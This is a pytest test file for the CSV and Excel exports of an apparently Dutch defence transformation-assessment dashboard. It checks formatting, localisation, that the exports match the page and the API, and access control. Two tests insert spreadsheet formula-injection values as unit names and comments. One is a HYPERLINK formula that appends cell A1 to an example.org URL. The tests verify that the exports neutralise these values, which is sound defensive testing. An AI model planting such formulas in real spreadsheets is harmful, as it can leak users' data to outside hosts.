"""A transformation lead downloads what the dashboard shows, as CSV and as an Excel workbook, and
finds the same units, in the same order, with the same figures as on the page and in the API.
Text that a spreadsheet would run as a formula stays text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from assessment.assessments.models import AssessmentStatus
from assessment.formatting import decimal
from tests.functional.test_compare import (
    COUNTED,
    UNITS,
    URL,
    add_unit,
    benchmark_rows,
    build_world,
    comment_for,
    heat_rows,
    hrefs,
    page,
)

BOM = b"\xef\xbb\xbf"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def world(factory, db_session):
    return build_world(factory, db_session)


@pytest.fixture
def lead(client, world):
    client.login(world.users["lead"].email)
    return client


def download_link(html: str, extension: str) -> str:
    links = [h for h in hrefs(html) if f"/export.{extension}" in h]
    assert len(links) == 1, links
    return links[0]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def csv_by_code(response) -> dict[str, dict[str, str]]:
    header, *rows = csv_rows(response)
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def workbook(response):
    assert response.status_code == 200
    assert response.mimetype == XLSX
    return load_workbook(io.BytesIO(response.data))


def sheet_rows(sheet) -> list[list[object]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def sheet_by_code(sheet) -> dict[str, dict[str, object]]:
    header, *rows = sheet_rows(sheet)
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def shown_scores(html: str) -> dict[str, list[str]]:
    """Per unit code the page's speerpunt scores and total, without the "onder doel" mark."""
    return {code: [without_mark(cell) for cell in cells[1:-1]] for code, cells in heat_rows(html)}


def without_mark(cell: str) -> str:
    """A heat-map cell's score without the mark of a cell far below target ("2,0 ▼ meer dan …")."""
    return cell.split(" ▼")[0]


SPEERPUNTEN = ["1. Thema 1", "2. Thema 2", "3. Thema 3"]


# -- CSV ------------------------------------------------------------------------------------------


def test_the_csv_is_utf8_with_a_byte_order_mark_semicolons_and_decimal_commas(lead):
    response = lead.get(URL + "/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=dts-scores_2026-1.csv"
    assert response.data.startswith(BOM)
    first_line, second_line = response.data[len(BOM) :].decode("utf-8").splitlines()[:2]
    assert first_line.startswith("Code;Eenheid;Status;Volledig (%);Totaalscore;")
    # 11 Luchtmobiele Brigade comes first by name; total 3,83 and speerpunt 2 4,5 with a comma.
    assert second_line == (
        "CLAS-11;11 Luchtmobiele Brigade;goedgekeurd;100;3,8;1;4;5,0;3,0;0,0;4,5;3,0;0,0;2,0;3,0;1,0"
    )


def test_in_english_the_csv_has_commas_decimal_points_and_english_titles(lead):
    response = lead.get(URL + "/export.csv?lang=en")
    assert response.status_code == 200
    header, first, *_rest = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert header[:7] == [
        "Code",
        "Unit",
        "Status",
        "Complete (%)",
        "Overall score",
        "Level reached",
        "Quartile",
    ]
    assert header[7:10] == ["1. Theme 1 – score", "1. Theme 1 – target", "1. Theme 1 – gap"]
    # The same row as the Dutch one above, with a decimal point and English words.
    assert first == [
        "CLAS-11", "11 Luchtmobiele Brigade", "approved", "100", "3.8", "1", "4",
        "5.0", "3.0", "0.0", "4.5", "3.0", "0.0", "2.0", "3.0", "1.0",
    ]  # fmt: skip


def test_the_browsers_language_decides_the_csv_without_lang(lead):
    english = lead.get(URL + "/export.csv", headers={"Accept-Language": "en-GB,en;q=0.8"})
    assert english.data[len(BOM) :].decode("utf-8").startswith("Code,Unit,Status,")
    dutch = lead.get(URL + "/export.csv", headers={"Accept-Language": "nl-NL"})
    assert dutch.data[len(BOM) :].decode("utf-8").startswith("Code;Eenheid;Status;")


def test_in_english_the_workbook_keeps_numbers_as_numbers(lead):
    book = workbook(lead.get(URL + "/export.xlsx?lang=en"))
    assert book.sheetnames == ["Scores", "Answers", "Benchmark"]
    scores = sheet_by_code(book["Scores"])
    assert scores["CLAS-11"]["Overall score"] == 3.8
    assert scores["CLAS-11"]["1. Theme 1"] == 5  # a number, not the text "5.0"
    answers = sheet_rows(book["Answers"])
    assert answers[0][:3] == ["Code", "Unit", "Question"]
    assert any(row[6] == "Question 1.1.1?" for row in answers[1:])  # the English question text


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?eenheid=CLAS&sorteer=overall&richting=af",
        "?eenheid=CLAS&sub=0",
        "?status=draft&status=submitted&sorteer=thema-2&richting=op",
        "?speerpunt=thema-1&sorteer=cap-1-1&richting=af",
    ],
)
def test_the_csv_has_exactly_the_rows_of_the_page_in_the_pages_order_with_its_figures(lead, query):
    html = page(lead, URL + query)
    header, *rows = csv_rows(lead.get(download_link(html, "csv")))
    on_page = heat_rows(html)
    assert [row[0] for row in rows] == [code for code, _ in on_page]
    score_columns = [i for i, name in enumerate(header) if name.endswith(" – score")]
    total = header.index("Totaalscore")
    for (code, cells), row in zip(on_page, rows, strict=True):
        page_scores = [without_mark(cell) for cell in cells[1:-2]]
        assert [row[i] or "–" for i in score_columns] == page_scores, code
        assert (row[total] or "–") == cells[-2], code
        quartile = row[header.index("Kwartiel")]
        assert (f"Q{quartile}" if quartile else "–") == cells[-1], code


def test_the_csv_figures_equal_those_of_the_api(lead):
    exported = csv_by_code(lead.get(URL + "/export.csv"))
    api = {u["unit"]["code"]: u for u in lead.get("/api/v1/rounds/2026-1/scores").get_json()["units"]}
    assert sorted(exported) == sorted(COUNTED)
    for code, row in exported.items():
        assert row["Totaalscore"] == decimal(api[code]["score"]), code
        for title, theme in zip(SPEERPUNTEN, api[code]["themes"], strict=True):
            assert row[f"{title} – score"] == decimal(theme["score"]), (code, title)
            assert row[f"{title} – gap"] == decimal(theme["gap"]), (code, title)


@pytest.mark.parametrize("start", ["=", "@", "+", "-"])
def test_a_unit_name_that_looks_like_a_formula_gets_a_leading_apostrophe(client, world, factory, start):
    name = f'{start}HYPERLINK("https://example.org";"klik")'
    add_unit(factory, world, "EVIL", name, AssessmentStatus.SUBMITTED, [3, 3, 3, 3, 3, 3])
    client.login(world.users["lead"].email)
    rows = csv_by_code(client.get(URL + "/export.csv"))
    assert rows["EVIL"]["Eenheid"] == "'" + name
    assert rows["CLAS"]["Eenheid"] == "Commando Landstrijdkrachten"  # ordinary text stays as it is


# -- XLSX -----------------------------------------------------------------------------------------


def test_the_workbook_has_scores_answers_and_benchmark_sheets(lead):
    response = lead.get(URL + "/export.xlsx")
    assert response.headers["Content-Disposition"] == "attachment; filename=dts-scores_2026-1.xlsx"
    assert workbook(response).sheetnames == ["Scores", "Antwoorden", "Benchmark"]


@pytest.mark.parametrize("query", ["", "?eenheid=CLAS&sorteer=thema-1&richting=af"])
def test_the_scores_sheet_has_one_row_per_unit_shown_with_the_pages_figures(lead, query):
    html = page(lead, URL + query)
    sheet = workbook(lead.get(download_link(html, "xlsx")))["Scores"]
    header, *rows = sheet_rows(sheet)
    on_page = shown_scores(html)
    assert [row[0] for row in rows] == list(on_page)
    for row in rows:
        values = dict(zip(header, row, strict=True))
        figures = [decimal(values[title]) for title in SPEERPUNTEN] + [decimal(values["Totaalscore"])]
        assert figures == on_page[row[0]], row[0]


def test_the_scores_sheet_also_has_every_capability(lead):
    rows = sheet_by_code(workbook(lead.get(URL + "/export.xlsx"))["Scores"])
    levels = {code: levels for code, _name, _parent, _status, levels in UNITS}
    capabilities = ["1.1. Capability 1.1", "1.2. Capability 1.2", "2.1. Capability 2.1"]
    capabilities += ["2.2. Capability 2.2", "3.1. Capability 3.1", "3.2. Capability 3.2"]
    for code in COUNTED:
        assert [rows[code][c] for c in capabilities] == [float(level) for level in levels[code]], code
    assert rows["CLAS"]["2. doel"] == 3.0
    assert rows["CLAS"]["2. gap"] == 1.0


def test_the_answers_sheet_has_every_answer_with_its_toelichting_of_the_shown_units_only(lead, world):
    html = page(lead, URL + "?eenheid=CLAS")
    sheet = workbook(lead.get(download_link(html, "xlsx")))["Antwoorden"]
    header, *rows = sheet_rows(sheet)
    assert header[:4] == ["Code", "Eenheid", "Vraag", "Sleutel"]
    assert header[-3:] == ["Niveau", "n.v.t.", "Toelichting"]
    found = {(row[0], row[3], row[-3], row[-1]) for row in rows}
    levels = {code: levels for code, _name, _parent, _status, levels in UNITS}
    expected = {
        (code, question.key, level, comment_for(code, question.key))
        for code in ("CLAS", "CLAS-11", "CLAS-13")
        for question, level in zip(world.questions(), levels[code], strict=True)
    }
    assert found == expected
    assert len(rows) == 18
    assert not {row[0] for row in rows} & {"CZSK", "CLSK"}  # filtered out, so not exported


def test_the_answers_sheet_follows_the_pages_order_and_numbers_the_questions(lead):
    html = page(lead, URL + "?sorteer=overall&richting=af")
    _header, *rows = sheet_rows(workbook(lead.get(download_link(html, "xlsx")))["Antwoorden"])
    assert list(dict.fromkeys(row[0] for row in rows)) == ["CLAS-11", "CLAS", "CZSK", "CLAS-13"]
    assert [row[2] for row in rows[:6]] == ["1.1", "1.2", "2.1", "2.2", "3.1", "3.2"]


def test_the_benchmark_sheet_has_the_dashboards_figures(lead):
    html = page(lead, URL)
    on_page = benchmark_rows(html)
    rows = {row[0]: row for row in sheet_rows(workbook(lead.get(download_link(html, "xlsx")))["Benchmark"])}
    header = rows["Speerpunt / capability"]
    for label, column in (("Minimum", "Minimum"), ("Mediaan", "Mediaan"), ("Maximum", "Maximum")):
        index = header.index(column)
        exported = [decimal(rows[title][index]) for title in [*SPEERPUNTEN, "Totaal"]]
        assert exported == on_page[label], label
    assert [decimal(rows[title][header.index("Mediaan")]) for title in SPEERPUNTEN] == ["3,0", "2,5", "3,0"]
    assert rows["Totaal"][header.index("n")] == 4


def test_a_toelichting_like_a_formula_is_stored_as_text(client, world, factory):
    formula = '=HYPERLINK("https://example.org/?q="&A1;"Klik hier")'
    add_unit(factory, world, "EVIL", "@Eenheid", AssessmentStatus.SUBMITTED)
    factory.answer(world.assessments["EVIL"], world.questions()[0], 3, comment=formula)
    client.login(world.users["lead"].email)
    book = workbook(client.get(URL + "/export.xlsx"))
    answers = book["Antwoorden"]
    cells = [row for row in answers.iter_rows() if row[0].value == "EVIL"]
    assert len(cells) == 1
    toelichting, name = cells[0][9], cells[0][1]
    assert toelichting.data_type == "s"
    assert toelichting.value == "'" + formula
    assert name.data_type == "s"
    assert name.value == "'@Eenheid"
    scores = [row for row in book["Scores"].iter_rows() if row[0].value == "EVIL"]
    assert scores[0][1].data_type == "s"
    assert scores[0][1].value == "'@Eenheid"


# -- access ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_a_representative_cannot_download_exports(client, world, extension):
    client.login(world.users["rep"].email)
    response = client.get(f"{URL}/export.{extension}")
    assert response.status_code == 403
    assert b"13 Lichte Brigade" not in response.data


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_anonymous_visitor_is_sent_to_log_in_for_an_export(client, world, extension):
    response = client.get(f"{URL}/export.{extension}")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


@pytest.mark.parametrize("role", ["coordinator", "admin"])
def test_coordinators_and_admins_download_exports_too(client, world, role):
    client.login(world.users[role].email)
    assert client.get(URL + "/export.csv").status_code == 200
    assert client.get(URL + "/export.xlsx").status_code == 200
